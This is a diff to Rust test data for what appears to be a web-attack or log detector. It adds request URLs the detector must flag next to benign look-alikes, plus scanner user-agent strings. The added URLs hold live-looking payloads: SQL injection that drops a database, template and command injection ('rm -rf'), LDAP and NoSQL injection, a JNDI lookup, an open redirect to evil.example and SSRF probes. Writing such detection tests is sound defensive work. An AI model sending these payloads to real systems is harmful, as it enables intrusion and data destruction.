@@ -740,6 +740,45 @@ pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
         &["/group/repo/-/blob/main/.gitignore", "/group/repo/-/raw/main/docker-compose.yml"],
     ),
     ("webshell", &["/upload/1.php;.jpg"], &["/upload/1.jpg"]),
+    (
+        "sql-injection-probe",
+        &[
+            "/x?id=3%20OR%20%27a%27%3D%27a%27",
+            "/x?id=3+or+'a'='a'",
+            "/x?id=7%27%3Bshutdown--",
+            "/x?id=7%27%3Bdrop%2F%2A%2A%2Fdatabase%2F%2A%2A%2Fshop--",
+            "/x?id=1%20%7C%7C%20dbms%5Fpipe%2Ereceive%5Fmessage%28%28%27a%27%29%2C10%29",
+        ],
+        &["/search?q=cats+or+'dogs'", "/search?q=a;shutdowns"],
+    ),
+    (
+        "code-injection-probe",
+        &[
+            "/x?q=%7B%7B7*'7'%7D%7D",
+            "/x?q=%24%7B%7B%3C%25%5B%25",
+            "/x?q=%7B%7B_self.env.display%7D%7D",
+            "/x?q=%3C%3F%3D%60%24_GET%5B0%5D%60%3F%3E",
+            "/x?q=a%3B%20rm%20-rf%20/tmp/x",
+            "/x?q=%26%20dir%20c%3A%5C",
+        ],
+        &["/search?q=rm+-rf+meaning", "/search?q=a%3Cb", "/x?q={{name}}"],
+    ),
+    (
+        "object-injection-probe",
+        &["/x?a[constructor][prototype][x]=1", "/x?u[$nin][]=a", "/x?u=admin*)((|userPassword=*)"],
+        &["/x?a[b][c]=1"],
+    ),
+    (
+        "open-redirect-probe",
+        &["/login?next=/%09/evil.example", "/login?next=%5C/%5C/evil.example"],
+        &["/login?next=/a%09b"],
+    ),
+    ("lookup-injection-probe", &["/x?a=${j${::-n}di:ldap://x/a}"], &["/x?a=${name}"]),
+    (
+        "internal-address-asked-for",
+        &["/x?url=http%3A%2F%2F0%2F", "/x?url=http://0:80/"],
+        &["/x?url=http://0815.example/"],
+    ),
 ];
 
 /// Rules on PostgreSQL's log: the file's name, messages that it must find, and some that it must not.
@@ -1002,6 +1041,9 @@ pub const AGENTS: (&[&str], &[&str]) = (
         "dirsearch",
         "Hello, World",
         "xray/1.9",
+        "skipfish/2.10b",
+        "Mozlila/5.0",
+        "libredtail-http",
     ],
     &["Mozilla/5.0 (Hydrate; Zapier)", "Hydrawise/2.0", "curl/8.5.0", "kube-probe/1.29", "Googlebot/2.1"],
 );
